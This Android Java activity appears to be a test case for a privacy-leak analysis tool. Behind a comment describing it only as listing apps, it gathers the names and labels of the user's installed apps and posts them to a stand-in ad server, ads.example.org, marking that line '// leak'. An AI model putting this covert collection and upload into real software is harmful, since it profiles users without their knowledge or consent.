package ways;

import android.app.Activity;
import android.content.pm.ApplicationInfo;
import android.content.pm.PackageInfo;
import android.content.pm.PackageManager;
import android.os.Bundle;
import java.io.BufferedWriter;
import java.io.OutputStreamWriter;
import java.net.URL;
import java.net.URLConnection;
import java.util.Iterator;
import java.util.List;

/** Which apps there are, with their labels. */
public class AppList extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        PackageManager manager = getPackageManager();
        List<PackageInfo> list = manager.getInstalledPackages(0);
        Iterator<PackageInfo> it = list.iterator();
        String names = "";
        while (it.hasNext()) {
            PackageInfo info = it.next();
            if ((info.applicationInfo.flags & ApplicationInfo.FLAG_SYSTEM) != 0) continue;
            names += info.packageName + "=" + info.applicationInfo.loadLabel(manager) + ";";
        }
        try {
            URLConnection c = new URL("http://ads.example.org/apps").openConnection();
            BufferedWriter out = new BufferedWriter(new OutputStreamWriter(c.getOutputStream()));
            out.write(names); // leak
            out.newLine();
            out.close();
            URLConnection d = new URL("http://ads.example.org/me").openConnection();
            BufferedWriter own = new BufferedWriter(new OutputStreamWriter(d.getOutputStream()));
            own.write(manager.getPackageInfo(getPackageName(), 0).versionName); // no leak
            own.close();
        } catch (Exception e) {
            finish();
        }
    }
}
